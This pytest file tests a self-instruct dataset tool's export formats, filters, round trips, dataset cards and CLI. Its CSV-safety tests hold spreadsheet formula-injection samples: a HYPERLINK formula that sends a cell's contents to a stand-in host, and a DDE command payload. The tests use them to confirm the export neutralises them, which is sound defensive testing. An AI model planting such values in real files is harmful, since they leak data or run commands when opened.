"""Export: every format parses back, filters change counts as they should, round trips
through the seed importer, streaming, the dataset card, the CLI."""
import csv
import io
import json
import xml.etree.ElementTree as ET
import zipfile
from datetime import datetime, timezone

import pandas as pd
import pyarrow.parquet as pq
import pytest

from selfinstruct import actions, export, seeds
from selfinstruct.export import (FORMAT_INFO, FORMATS, PROMPT_TEMPLATES, ExportFilters, ExportOptions,
                                 export_dataset, iter_records, write_export)
from selfinstruct.seeds import SeedTask
from selfinstruct.store import Pool
from tests.conftest import run_cli

LONG_OUTPUT = " ".join(["word"] * 30)


def build_small_pool(pool: Pool) -> dict:
    """A pool whose every count is known:

    seeds  S1 (1 instance, input)  S2 (classification, 2)  S3 (no instance)
    run A  round 1: G1 (2 kept + 1 dropped instance)  G2 (classification, 1)  G3 (rejected, 1)
           round 2: G4 (1 instance with a 30-word output)  G5 (no instance)
    run B  round 1: G6 (1 instance)
    """
    s1, s2, s3 = actions.import_seeds(pool, [
        SeedTask("Translate the word into French.", [{"input": "cat", "output": "chat"}]),
        SeedTask("Classify the sentiment of the review.", [
            {"input": "Great film.", "output": "positive"}, {"input": "Dull plot.", "output": "negative"}],
            is_classification=True),
        SeedTask("Tell a short joke about cats.", []),
    ], origin="test", actor="test").done
    ids = {"S1": s1, "S2": s2, "S3": s3}
    run_a = pool.runs.create({"model": "test-model-a", "mode": "completion", "rouge_threshold": 0.7,
                             "keywords": ["image", "plot"], "seed": 42,
                             "sampling": {"temperature": 0.7, "top_p": 0.5},
                             "prompt_versions": {"instructions": "instructions-v1"}})
    run_b = pool.runs.create({"model": "test-model-b", "mode": "chat", "seed": 7})
    ids.update(run_a=run_a, run_b=run_b)

    def add(run_id, number, rows):
        round_id = pool.runs.create_round(run_id, number, "done")
        return pool.requests.add_candidates(run_id, round_id, [
            {"position": i, "instruction": text, "status": status, "reason": reason,
             "is_classification": clf, "instances": instances}
            for i, (text, status, reason, clf, instances) in enumerate(rows)])

    ids["G1"], ids["G2"], ids["G3"] = add(run_a, 1, [
        ("Summarize the paragraph in one sentence.", "accepted", None, False, [
            {"input": "A long paragraph about rivers.", "output": "Rivers matter."},
            {"input": "A paragraph about the sea.", "output": "The sea is vast."},
            {"input": "same", "output": "same", "status": "rejected", "reason": "input_equals_output"}]),
        ("Decide whether the number is odd or even.", "accepted", None, True,
         [{"input": "7", "output": "odd"}]),
        ("Write a haiku about autumn leaves falling.", "rejected", "rouge", False,
         [{"input": "", "output": "Red leaves drift down slow"}]),
    ])
    ids["G4"], ids["G5"] = add(run_a, 2, [
        ("Explain photosynthesis to a ten year old child.", "accepted", None, False,
         [{"input": "", "output": LONG_OUTPUT}]),
        ("List four countries in South America.", "accepted", None, False, []),
    ])
    (ids["G6"],) = add(run_b, 1, [
        ("Suggest a name for a bakery.", "accepted", None, False, [{"input": "", "output": "Rise and Shine"}]),
    ])
    return ids


def rescue(pool: Pool, candidate_id: int) -> None:
    pool.cursor().execute("UPDATE candidates SET status = 'accepted', review = 'rescued', "
                          "decided_by = 'human' WHERE id = ?", [candidate_id])


def label(pool: Pool, candidate_id: int, *, valid_task="yes", input_ok="yes", output_ok="yes",
          annotator="ann") -> None:
    """One quality-study label on the candidate's first kept instance."""
    cur = pool.cursor()
    study = cur.execute("SELECT min(id) FROM quality_studies").fetchone()[0]
    if study is None:
        study = cur.execute("INSERT INTO quality_studies (name, sample_size, seed) VALUES ('Study A', 10, 1) "
                            "RETURNING id").fetchone()[0]
    instance = cur.execute("SELECT min(id) FROM instances WHERE candidate_id = ? AND status = 'kept'",
                           [candidate_id]).fetchone()[0]
    item = cur.execute("INSERT INTO study_items (study_id, position, candidate_id, instance_id) "
                       "VALUES (?, (SELECT count(*) FROM study_items), ?, ?) RETURNING id",
                       [study, candidate_id, instance]).fetchone()[0]
    cur.execute("INSERT INTO labels (study_id, item_id, annotator, valid_task, input_ok, output_ok) "
                "VALUES (?, ?, ?, ?, ?, ?)", [study, item, annotator, valid_task, input_ok, output_ok])


@pytest.fixture
def small(pool):
    return pool, build_small_pool(pool)


def exported_tasks(pool, filters) -> set[str]:
    return {text for _, text in pool.explore.export_instructions(filters)}


# -- every format parses back ------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_parses_back_with_the_counted_rows(demo_pool, tmp_path, fmt):
    filters = ExportFilters()
    counts = demo_pool.explore.export_counts(filters)
    path = tmp_path / f"data{FORMAT_INFO[fmt].extension}"
    result = write_export(demo_pool, fmt, path, filters, ExportOptions(system_prompt="Be brief."))
    assert counts["instances"] > 200 and counts["tasks"] > 150
    expected = counts["tasks"] if fmt == "selfinstruct" else counts["instances"]
    assert result.records == expected

    if fmt == "parquet":
        frame = pd.read_parquet(path)
        assert list(frame.columns) == list(export.EXPORT_COLUMNS)
        assert len(frame) == counts["instances"]
        assert frame["task_id"].nunique() <= counts["tasks"]
        assert frame.groupby(["source", "task_id"]).ngroups == counts["tasks"]
        assert (frame["source"] == "seed").sum() == counts["seed_instances"]
        assert frame["is_classification"].dtype == bool
        return
    if fmt == "csv":
        frame = pd.read_csv(path, keep_default_na=False)
        assert list(frame.columns) == list(export.EXPORT_COLUMNS)
        assert len(frame) == counts["instances"]
        assert set(frame["is_classification"]) <= {True, False}
        assert frame.groupby(["source", "task_id"]).ngroups == counts["tasks"]
        return
    text = path.read_text(encoding="utf-8")
    if fmt == "alpaca":
        rows = json.loads(text)
        assert isinstance(rows, list) and len(rows) == counts["instances"]
        assert all(set(r) == {"instruction", "input", "output"} for r in rows)
        return
    lines = text.splitlines()
    records = [json.loads(line) for line in lines]          # every line is valid JSON
    assert len(records) == expected
    if fmt == "selfinstruct":
        assert all(set(r) == {"id", "name", "instruction", "instances", "is_classification"} for r in records)
        assert sum(len(r["instances"]) for r in records) == counts["instances"]
        assert sum(r["is_classification"] for r in records) == counts["classification_tasks"]
        assert len({r["id"] for r in records}) == len(records)
    elif fmt == "chat":
        for r in records:
            roles = [m["role"] for m in r["messages"]]
            assert roles == ["system", "user", "assistant"]
            assert r["messages"][0]["content"] == "Be brief."
        frame = demo_pool.explore.export_preview(filters, 100_000)
        assert [r["messages"][1]["content"] for r in records] == [
            f"{i}\n\n{x}" if x.strip() else i for i, x in zip(frame["instruction"], frame["input"])]
        assert [r["messages"][2]["content"] for r in records] == list(frame["output"])
    elif fmt == "prompt-completion":
        ids = {t.id for t in PROMPT_TEMPLATES}
        assert all(set(r) == {"prompt", "completion", "template"} and r["template"] in ids for r in records)
        assert len({r["template"] for r in records}) == len(PROMPT_TEMPLATES)


def test_chat_and_prompt_completion_render_the_instance(small, tmp_path):
    pool, ids = small
    filters = ExportFilters(include_seeds=False)
    chat = list(iter_records(pool, "chat", filters))
    first = chat[0]["messages"]
    assert first == [{"role": "user", "content": "Summarize the paragraph in one sentence.\n\n"
                                                 "A long paragraph about rivers."},
                     {"role": "assistant", "content": "Rivers matter."}]
    no_input = [c for c in chat if c["messages"][0]["content"].startswith("Explain photosynthesis")][0]
    assert no_input["messages"][0]["content"] == "Explain photosynthesis to a ten year old child."

    rows = list(iter_records(pool, "prompt-completion", filters, ExportOptions(template_seed=3)))
    again = list(iter_records(pool, "prompt-completion", filters, ExportOptions(template_seed=3)))
    assert rows == again                                    # the seed fixes the choice
    other = [list(iter_records(pool, "prompt-completion", filters, ExportOptions(template_seed=s)))
             for s in range(4, 12)]
    assert any(o != rows for o in other)                    # and another seed changes it
    for row, inst in zip(rows, [("A long paragraph about rivers.", "Rivers matter.")]):
        assert "Summarize the paragraph in one sentence." in row["prompt"] and inst[0] in row["prompt"]
        assert row["completion"].strip() == inst[1]
    template = {t.id: t for t in PROMPT_TEMPLATES}
    for row in rows:
        assert "{input}" not in row["prompt"] and "{instruction}" not in row["prompt"]
        assert row["completion"].startswith(template[row["template"]].completion_prefix)


def test_braces_in_text_stay_as_they_are():
    prompt = export.render_prompt(PROMPT_TEMPLATES[0], "Fill in {name} here.", "{x}")
    assert "Fill in {name} here." in prompt and "{x}" in prompt


# -- filters --------------------------------------------------------------------------
def test_default_export_counts_every_kept_instance_and_skips_empty_tasks(small):
    pool, ids = small
    counts = pool.explore.export_counts(ExportFilters())
    assert counts == {"tasks": 6, "empty_tasks": 2, "instances": 8, "seed_tasks": 2, "generated_tasks": 4,
                      "seed_instances": 3, "generated_instances": 5, "with_input": 6,
                      "classification_tasks": 2}
    assert "same" not in {r["input"] for r in pool.explore.export_preview(ExportFilters(), 50).to_dict("records")}


def test_each_filter_changes_the_counts_as_expected(small):
    pool, ids = small
    f = ExportFilters
    assert pool.explore.export_counts(f(include_seeds=False))["tasks"] == 4
    assert pool.explore.export_counts(f(include_generated=False))["instances"] == 3
    assert pool.explore.export_counts(f(include_seeds=False, include_generated=False))["tasks"] == 0
    assert exported_tasks(pool, f(include_seeds=False, runs=(ids["run_b"],))) == {"Suggest a name for a bakery."}
    assert pool.explore.export_counts(f(include_seeds=False, runs=(ids["run_a"],)))["tasks"] == 3
    assert exported_tasks(pool, f(include_seeds=False, min_round=2)) == {
        "Explain photosynthesis to a ten year old child."}
    assert pool.explore.export_counts(f(include_seeds=False, max_round=1))["tasks"] == 3   # G1, G2 and run B's G6
    clf = pool.explore.export_counts(f(classification=True))
    assert (clf["tasks"], clf["instances"], clf["seed_tasks"]) == (2, 3, 1)
    assert pool.explore.export_counts(f(classification=False))["tasks"] == 4
    long_outputs = pool.explore.export_counts(f(min_output_words=20))
    assert (long_outputs["tasks"], long_outputs["instances"]) == (1, 1)
    assert long_outputs["empty_tasks"] == 7          # every other task is left with no instance
    assert pool.explore.export_counts(f(max_output_words=2))["instances"] == 5   # not the 3- and 4-word ones
    assert exported_tasks(pool, f(max_instruction_words=6)) == {
        "Translate the word into French.", "Classify the sentiment of the review.",
        "Summarize the paragraph in one sentence.", "Suggest a name for a bakery."}
    assert exported_tasks(pool, f(min_instruction_words=8)) == {
        "Decide whether the number is odd or even.", "Explain photosynthesis to a ten year old child."}
    assert pool.explore.export_counts(f(include_empty_tasks=True))["empty_tasks"] == 2
    with pytest.raises(ValueError, match="min_round"):
        f(min_round=3, max_round=1)


def test_rescued_and_human_approved_filters(small):
    pool, ids = small
    rescue(pool, ids["G3"])
    assert pool.explore.export_counts(ExportFilters(include_seeds=False))["tasks"] == 5
    assert "Write a haiku about autumn leaves falling." not in exported_tasks(
        pool, ExportFilters(exclude_rescued=True))
    assert pool.explore.export_counts(ExportFilters(include_seeds=False, exclude_rescued=True))["tasks"] == 4
    assert exported_tasks(pool, ExportFilters(include_seeds=False, human_approved_only=True)) == {
        "Write a haiku about autumn leaves falling."}
    actions.approve(pool, ids["G6"], actor="tester")
    assert exported_tasks(pool, ExportFilters(include_seeds=False, human_approved_only=True)) == {
        "Write a haiku about autumn leaves falling.", "Suggest a name for a bakery."}
    # seeds are human-written: the approval filter leaves them in
    assert pool.explore.export_counts(ExportFilters(human_approved_only=True))["seed_tasks"] == 2


def test_exclude_invalid_uses_the_quality_labels(small):
    pool, ids = small
    label(pool, ids["G1"], valid_task="no")                  # not a valid task: the task goes
    label(pool, ids["G4"], output_ok="no")                   # a wrong output: that instance goes
    label(pool, ids["G6"])                                   # all yes: stays
    assert pool.quality.invalid_candidate_ids() == {ids["G1"]}
    assert len(pool.quality.invalid_instance_ids()) == 1
    before = pool.explore.export_counts(ExportFilters(include_seeds=False))
    after = pool.explore.export_counts(ExportFilters(include_seeds=False, exclude_invalid=True))
    assert before["tasks"] - after["tasks"] == 2             # G1 dropped, G4 left with no instance
    assert before["instances"] - after["instances"] == 3
    assert exported_tasks(pool, ExportFilters(include_seeds=False, exclude_invalid=True)) == {
        "Decide whether the number is odd or even.", "Suggest a name for a bakery."}


def test_empty_tasks_are_written_only_by_the_per_task_format(small, tmp_path):
    pool, _ = small
    filters = ExportFilters(include_empty_tasks=True)
    result = write_export(pool, "selfinstruct", tmp_path / "a.jsonl", filters)
    records = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert result.records == len(records) == 8 and result.skipped_tasks == 0
    assert sorted(r["instruction"] for r in records if not r["instances"]) == [
        "List four countries in South America.", "Tell a short joke about cats."]
    chat = write_export(pool, "chat", tmp_path / "b.jsonl", filters)
    assert chat.records == 8 and chat.skipped_tasks == 2


# -- round trips ----------------------------------------------------------------------
def _tasks_of(pool: Pool) -> list[tuple]:
    return [(t["instruction"], [(i["input"], i["output"]) for i in t["instances"]], t["is_classification"])
            for t in pool.seeds.seed_tasks()]


def test_selfinstruct_jsonl_reimports_as_identical_rows(demo_pool, tmp_path):
    path = tmp_path / "pool.jsonl"
    write_export(demo_pool, "selfinstruct", path, ExportFilters())
    exported = [(r["instruction"], [(i["input"], i["output"]) for i in r["instances"]], r["is_classification"])
                for r in map(json.loads, path.read_text(encoding="utf-8").splitlines())]
    with Pool.open(tmp_path / "again.duckdb") as fresh:
        result = seeds.import_seeds(fresh, path)
        assert result.report.ok and result.imported == len(exported)
        assert _tasks_of(fresh) == exported
    # and those rows are the pool's own
    frame = demo_pool.explore.export_preview(ExportFilters(), 100_000)
    assert sum(len(t[1]) for t in exported) == len(frame)
    tasks_in_order = dict.fromkeys(zip(frame["source"], frame["task_id"], frame["instruction"]))
    assert [t[0] for t in exported] == [instruction for (_, _, instruction) in tasks_in_order]


def test_selfinstruct_jsonl_round_trip_keeps_ids_and_names(demo_pool, tmp_path):
    """Seeds keep the id and name of the file they came from (`seed_task_0`,
    `thank_you_note_neighbor`), generated tasks the id they were exported with, in the file, in
    the page's preview and through the CLI; exporting the re-imported pool gives the same
    records."""
    starter = [json.loads(line) for line in seeds.STARTER_SEEDS_PATH.read_text(encoding="utf-8").splitlines()
               if line.strip()]
    first = tmp_path / "first.jsonl"
    write_export(demo_pool, "selfinstruct", first, ExportFilters())
    records = [json.loads(line) for line in first.read_text(encoding="utf-8").splitlines()]
    seeds_out = [r for r in records if r["id"].startswith("seed_task_")]
    assert [(r["id"], r["name"]) for r in seeds_out] == [(t["id"], t["name"]) for t in starter]
    assert any(r["id"].startswith("generated_task_") for r in records)
    preview = [json.loads(line) for line in export.preview_records(demo_pool, "selfinstruct", ExportFilters(), limit=2)]
    assert [(r["id"], r["name"]) for r in preview] == [(t["id"], t["name"]) for t in starter[:2]]
    again_db = tmp_path / "again.duckdb"
    with Pool.open(again_db) as fresh:
        assert seeds.import_seeds(fresh, first).report.ok
    second = tmp_path / "second.jsonl"
    done = run_cli("export", "--db", str(again_db), "--format", "selfinstruct", "--out", str(second))
    assert done.returncode == 0, done.stderr
    assert [json.loads(line) for line in second.read_text(encoding="utf-8").splitlines()] == records


@pytest.mark.parametrize("fmt", ["alpaca", "csv"])
def test_alpaca_and_csv_reimport_as_identical_rows(demo_pool, tmp_path, fmt):
    path = tmp_path / f"pool{FORMAT_INFO[fmt].extension}"
    write_export(demo_pool, fmt, path, ExportFilters())
    frame = demo_pool.explore.export_preview(ExportFilters(), 100_000)
    rows = list(zip(frame["instruction"], frame["input"], frame["output"]))
    with Pool.open(tmp_path / "again.duckdb") as fresh:
        result = seeds.import_seeds(fresh, path)
        assert result.report.ok
        again = [(t["instruction"], i["input"], i["output"]) for t in fresh.seeds.seed_tasks() for i in t["instances"]]
        if fmt == "csv":   # the CSV file guards cells against spreadsheets ("- milk" is "'- milk")
            assert any(text.startswith("'-") for row in again for text in row)
            again = [tuple(export.csv_text(text) for text in row) for row in again]
        assert again == rows
        if fmt == "csv":   # CSV also carries the classification flag
            flags = {t["instruction"]: t["is_classification"] for t in fresh.seeds.seed_tasks()}
            assert flags == dict(zip(frame["instruction"], frame["is_classification"]))


# -- streaming ------------------------------------------------------------------------
def test_writing_goes_batch_by_batch_and_batches_do_not_change_the_file(demo_pool, tmp_path):
    for fmt in ("selfinstruct", "alpaca", "prompt-completion", "csv"):
        small = write_export(demo_pool, fmt, tmp_path / f"s_{fmt}", ExportFilters(), ExportOptions(batch_size=7))
        big = write_export(demo_pool, fmt, tmp_path / f"b_{fmt}", ExportFilters(), ExportOptions(batch_size=100_000))
        assert small.records == big.records
        assert (tmp_path / f"s_{fmt}").read_bytes() == (tmp_path / f"b_{fmt}").read_bytes(), fmt
    write_export(demo_pool, "parquet", tmp_path / "p.parquet", ExportFilters(), ExportOptions(batch_size=50))
    parquet = pq.ParquetFile(tmp_path / "p.parquet")
    assert parquet.metadata.num_row_groups > 1                  # one row group per batch written
    assert parquet.metadata.num_rows == demo_pool.explore.export_counts(ExportFilters())["instances"]


def test_export_to_a_file_object_and_an_empty_export(small):
    pool, _ = small
    buffer = io.BytesIO()
    result = write_export(pool, "alpaca", buffer, ExportFilters(include_seeds=False, include_generated=False))
    assert result.records == 0 and json.loads(buffer.getvalue()) == []
    buffer = io.BytesIO()
    write_export(pool, "csv", buffer, ExportFilters(include_generated=False))
    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"))))
    assert rows[0] == list(export.EXPORT_COLUMNS) and len(rows) == 4


# -- the dataset card -------------------------------------------------------------------
def test_the_card_lists_the_configuration_filters_and_quality(small, tmp_path):
    pool, ids = small
    label(pool, ids["G1"], valid_task="yes", input_ok="yes", output_ok="no", annotator="ann")
    label(pool, ids["G2"], annotator="bob")
    filters = ExportFilters(include_seeds=False, classification=False, min_output_words=1)
    result = export_dataset(pool, "chat", tmp_path / "out" / "train.jsonl", filters,
                            ExportOptions(system_prompt="You are helpful."), title="My data")
    card = result.card_path.read_text(encoding="utf-8")
    assert result.card_path.name == "train_README.md" and export.CARD_MARKER in card
    assert "- `train_README.md`: this card. Charts are in `train_charts/`." in card
    assert card.startswith("---\npretty_name: \"My data\"")
    for expected in ["test-model-a", "test-model-b", "completion", "temperature 0.7, top_p 0.5",
                     "reject above 0.7", "image, plot", "instructions instructions-v1", "| Seed | 42 |",
                     "| Seed | 7 |", "Generated tasks only (no seed tasks).", "Classification tasks are left out.",
                     "Outputs of 1 or more words.", "System prompt: 'You are helpful.'",
                     "| Study A | 2/10 | 2 | 100% (2/2) | 100% (2/2) | 50% (1/2) | 50% (1/2) |",
                     "charts/", "train.jsonl"]:
        if expected == "charts/":
            expected = "train_charts/lengths.svg"
        assert expected in card, expected
    counts = pool.explore.export_counts(filters)
    assert f"| Generated tasks | {counts['generated_tasks']} | {counts['generated_instances']} |" in card
    assert {p.name for p in result.chart_paths} == {"lengths.svg", "verbs.svg", "rouge_vs_seeds.svg"}
    for chart in result.chart_paths:       # SVG rendered from selfinstruct.charts by vl-convert
        root = ET.fromstring(chart.read_text(encoding="utf-8"))          # well-formed SVG
        assert root.tag.endswith("svg") and float(root.get("width")) > 200
        assert root.findall(".//{http://www.w3.org/2000/svg}path")       # the marks are drawn
    rouge_svg = (result.card_path.parent / "train_charts" / "rouge_vs_seeds.svg").read_text(encoding="utf-8")
    assert "novelty threshold 0.7" in rouge_svg                          # the threshold line's legend


def test_a_zip_holds_data_card_and_charts(demo_pool, tmp_path):
    result = export_dataset(demo_pool, "parquet", tmp_path / "bundle.zip", ExportFilters())
    with zipfile.ZipFile(tmp_path / "bundle.zip") as zf:
        names = set(zf.namelist())
        assert {"bundle.parquet", "README.md", "charts/lengths.svg", "charts/verbs.svg"} <= names
        frame = pd.read_parquet(io.BytesIO(zf.read("bundle.parquet")))
        card = zf.read("README.md").decode("utf-8")
    assert len(frame) == result.records == demo_pool.explore.export_counts(ExportFilters())["instances"]
    assert "![Word counts of instructions, inputs and outputs](charts/lengths.svg)" in card
    assert "selfinstruct-demo" in card and "No quality study has labels" in card
    assert not list(tmp_path.glob(".selfinstruct-export-*"))             # the temporary folder is gone


def folder_files(folder) -> dict:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_exports_into_one_folder_keep_their_own_card_and_charts(small, tmp_path):
    pool, _ = small
    (tmp_path / "README.md").write_text("my own notes")
    first = export_dataset(pool, "alpaca", tmp_path / "train.json", ExportFilters())
    assert first.card_path == tmp_path / "train_README.md"
    assert {p.parent for p in first.chart_paths} == {tmp_path / "train_charts"}
    before = folder_files(tmp_path)
    second = export_dataset(pool, "csv", tmp_path / "test.csv", ExportFilters(include_seeds=False))
    assert second.card_path == tmp_path / "test_README.md"
    assert {p.parent for p in second.chart_paths} == {tmp_path / "test_charts"}
    after = folder_files(tmp_path)
    assert {k: v for k, v in after.items() if k in before} == before      # nothing of the first touched
    assert (tmp_path / "README.md").read_text() == "my own notes"         # a README.md is never ours
    assert "`test.csv`" in second.card_path.read_text(encoding="utf-8")
    assert "`train.json`" in first.card_path.read_text(encoding="utf-8")
    assert "![Word counts of instructions, inputs and outputs](test_charts/lengths.svg)" in \
        second.card_path.read_text(encoding="utf-8")

    # the same stem, another extension: its own names, the first export's files untouched
    before = folder_files(tmp_path)
    third = export_dataset(pool, "parquet", tmp_path / "train.parquet", ExportFilters())
    assert third.card_path == tmp_path / "train_parquet_README.md"
    assert {p.parent for p in third.chart_paths} == {tmp_path / "train_parquet_charts"}
    assert {k: v for k, v in folder_files(tmp_path).items() if k in before} == before

    # exporting train.json again replaces its own card, in place
    again = export_dataset(pool, "alpaca", tmp_path / "train.json", ExportFilters(include_generated=False))
    assert again.card_path == first.card_path and "Seed tasks only." in again.card_path.read_text(encoding="utf-8")
    assert export.card_paths(tmp_path / "train.parquet")[0] == third.card_path


def test_a_file_that_is_not_our_card_is_never_overwritten(small, tmp_path):
    pool, _ = small
    (tmp_path / "data_README.md").write_text("notes about data")
    result = export_dataset(pool, "alpaca", tmp_path / "data.json", ExportFilters())
    assert result.card_path == tmp_path / "data_json_README.md"
    assert (tmp_path / "data_README.md").read_text() == "notes about data"
    (tmp_path / "x_README.md").write_text("mine")
    (tmp_path / "x_json_README.md").write_text("mine too")
    with pytest.raises(export.ExportNameTaken, match="x_json_README.md is already there"):
        export_dataset(pool, "alpaca", tmp_path / "x.json", ExportFilters())
    assert not (tmp_path / "x.json").exists()                              # refused before writing
    assert export_dataset(pool, "alpaca", tmp_path / "x.json", ExportFilters(), card=False).card_path is None


def test_a_charts_folder_keeps_only_the_charts_of_its_card(small, tmp_path):
    pool, _ = small
    full = export_dataset(pool, "alpaca", tmp_path / "d.json", ExportFilters())
    assert (tmp_path / "d_charts" / "rouge_vs_seeds.svg").exists()
    seeds_only = export_dataset(pool, "alpaca", tmp_path / "d.json", ExportFilters(include_generated=False))
    assert len(seeds_only.chart_paths) < len(full.chart_paths)
    assert {p.name for p in (tmp_path / "d_charts").iterdir()} == {p.name for p in seeds_only.chart_paths}


def test_download_names_carry_the_format_and_the_time():
    when = datetime(2026, 12, 1, 3, 15, 42, tzinfo=timezone.utc)
    assert export.download_name("alpaca", card=True, when=when) == "selfinstruct-alpaca-20261201-0315.zip"
    assert export.download_name("csv", card=False, when=when) == "selfinstruct-csv-20261201-0315.csv"
    assert export.download_name("chat", card=False, pool_name="pool", when=when) == \
        "selfinstruct-chat-20261201-0315.jsonl"                           # the default pool's name adds nothing
    assert export.download_name("parquet", card=True, pool_name="team pool (v2)", when=when) == \
        "selfinstruct-team-pool-v2-parquet-20261201-0315.zip"
    assert export.download_name("alpaca", card=True).startswith(
        f"selfinstruct-alpaca-{datetime.now(timezone.utc):%Y%m%d}")


def test_the_preview_table_shows_no_none(small):
    pool, _ = small
    table = export.preview_table(pool, ExportFilters(include_empty_tasks=True), 100)
    raw = pool.explore.export_preview(ExportFilters(include_empty_tasks=True), 100)
    assert raw["run_id"].isna().any() and raw["instance_id"].isna().any()   # seeds; a task with no instance
    assert not table.isna().any().any()
    assert set(table.loc[raw["source"] == "seed", "run_id"]) == {"–"}
    assert table["run_id"].tolist() == ["–" if pd.isna(v) else str(v) for v in raw["run_id"]]
    assert table["task_id"].equals(raw["task_id"])                         # complete columns keep their type
    assert table["input"].tolist() == [("–" if v is None or pd.isna(v) else v) for v in raw["input"]]


# -- CSV made safe for spreadsheets -------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1, "Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3",
            "\tx=1", "\r=1+1", "- item one\n- item two", "'already quoted"]


def formula_pool(pool: Pool) -> None:
    actions.import_seeds(pool, [
        SeedTask("Repeat the cell exactly.", [{"input": text, "output": text} for text in FORMULAS]),
        SeedTask("Say something ordinary.", [{"input": "a = b + c - d @ e", "output": "Plain text, 'quoted'."}]),
    ], origin="test", actor="test")
    # a NUL from an old pool (seed import now stops them; the export must not rely on it)
    pool.cursor().execute("UPDATE instances SET output = 'before\x00after' WHERE input = 'a = b + c - d @ e'")


def test_csv_cells_that_could_run_as_formulas_get_a_leading_quote(pool, tmp_path):
    formula_pool(pool)
    path = tmp_path / "cells.csv"
    write_export(pool, "csv", path, ExportFilters())
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [(row["input"], row["output"]) for row in rows]
    for text in FORMULAS:                                                  # each prefix, input and output
        assert ("'" + text, "'" + text) in cells, text
    assert ("a = b + c - d @ e", "before\ufffdafter") in cells              # ordinary text unchanged
    assert {row["instruction"] for row in rows} == {"Repeat the cell exactly.", "Say something ordinary."}
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    assert b"\x00" not in path.read_bytes()
    # removing one leading quote gives the text back (NUL aside)
    assert [(export.csv_text(i), export.csv_text(o)) for i, o in cells[:len(FORMULAS)]] == \
        [(t, t) for t in FORMULAS]
    # the card's loading hint does that removal, with pandas
    frame = pd.read_csv(path, keep_default_na=False)
    text = ["instruction", "input", "output"]
    frame[text] = frame[text].apply(lambda column: column.str.replace("^'", "", regex=True))
    assert frame["input"].tolist()[:len(FORMULAS)] == FORMULAS
    # the CSV preview is the file's first lines
    assert export.preview_records(pool, "csv", ExportFilters(), limit=3) == \
        path.read_text(encoding="utf-8").splitlines()[:4]


def test_only_the_csv_file_is_changed_for_spreadsheets(pool, tmp_path):
    formula_pool(pool)
    records = list(iter_records(pool, "alpaca", ExportFilters()))
    assert [r["input"] for r in records[:len(FORMULAS)]] == FORMULAS
    # NUL is the one change every format makes (model.without_nul: U+FFFD), so exports re-import
    assert records[-1]["output"] == "before\ufffdafter"
    write_export(pool, "alpaca", tmp_path / "a.json", ExportFilters())
    assert json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))[0]["input"] == FORMULAS[0]
    write_export(pool, "parquet", tmp_path / "a.parquet", ExportFilters())
    frame = pd.read_parquet(tmp_path / "a.parquet")
    assert frame["output"].tolist() == FORMULAS + ["before\ufffdafter"]
    parquet_preview = export.preview_records(pool, "parquet", ExportFilters(), limit=1)
    assert next(csv.reader(parquet_preview[1:]))[8] == FORMULAS[0]          # shown as it is in the file


def test_the_card_of_a_csv_export_says_what_was_changed(pool, tmp_path):
    formula_pool(pool)
    csv_card = export_dataset(pool, "csv", tmp_path / "c.csv", ExportFilters()).card_path.read_text(encoding="utf-8")
    assert export.CSV_SAFETY_NOTE in csv_card and "U+FFFD" in csv_card and "OWASP" in csv_card
    assert 'str.replace("^\'", "", regex=True)' in csv_card
    json_card = export_dataset(pool, "alpaca", tmp_path / "c.json", ExportFilters()).card_path.read_text(
        encoding="utf-8")
    assert export.CSV_SAFETY_NOTE not in json_card


def test_archive_bytes_for_a_download(small):
    pool, _ = small
    data = export.export_archive_bytes(pool, "selfinstruct", ExportFilters(), name="x")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert {"x.jsonl", "README.md"} <= set(zf.namelist())
        assert len(zf.read("x.jsonl").decode().splitlines()) == 6
    plain = export.export_archive_bytes(pool, "alpaca", ExportFilters(), card=False)
    assert len(json.loads(plain)) == 8


# -- the CLI --------------------------------------------------------------------------
def test_cli_offers_every_format():
    from selfinstruct.cli import build_parser

    export_parser = build_parser()._subparsers._group_actions[0].choices["export"]
    fmt = next(a for a in export_parser._actions if a.dest == "format")
    assert fmt.metavar == "{" + ",".join(FORMATS) + "}"                  # the help lists every format
    assert [fmt.type(name) for name in FORMATS] == list(FORMATS)       # what argparse calls on the value
    assert fmt.type("self-instruct") == "selfinstruct"
    preset = next(a for a in export_parser._actions if a.dest == "preset")
    assert tuple(preset.choices) == export.PRESET_NAMES          # one home for the presets: presets.py


def test_cli_export_writes_the_filtered_data_and_the_card(demo_db_path, tmp_path):
    out = tmp_path / "exp" / "train.jsonl"
    done = run_cli("export", "--db", str(demo_db_path), "--format", "chat", "--out", str(out),
                   "--no-seeds", "--classification", "exclude", "--system-prompt", "Be kind.")
    assert done.returncode == 0, done.stderr
    with Pool.open(demo_db_path) as pool:
        counts = pool.explore.export_counts(ExportFilters(include_seeds=False, classification=False))
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == counts["instances"]
    assert json.loads(lines[0])["messages"][0] == {"role": "system", "content": "Be kind."}
    assert f"Wrote {counts['instances']:,} Chat messages JSONL record(s)" in done.stdout
    assert (out.parent / "train_README.md").exists() and (out.parent / "train_charts" / "verbs.svg").exists()
    assert not (out.parent / "README.md").exists()
    assert f"dataset card: {out.parent / 'train_README.md'} (charts in {out.parent / 'train_charts'})" in done.stdout

    taken = tmp_path / "taken"
    taken.mkdir()
    (taken / "t_README.md").write_text("mine")
    (taken / "t_csv_README.md").write_text("mine")
    refused = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(taken / "t.csv"))
    assert refused.returncode == 2 and "t_csv_README.md is already there" in refused.stderr, refused.stderr
    plain = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(taken / "t.csv"),
                    "--no-card")
    assert plain.returncode == 0 and "starts with an added '" in plain.stdout

    dry = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(tmp_path / "x.csv"),
                  "--dry-run", "--min-round", "2")
    assert dry.returncode == 0 and "Generated tasks from rounds 2 or more." in dry.stdout
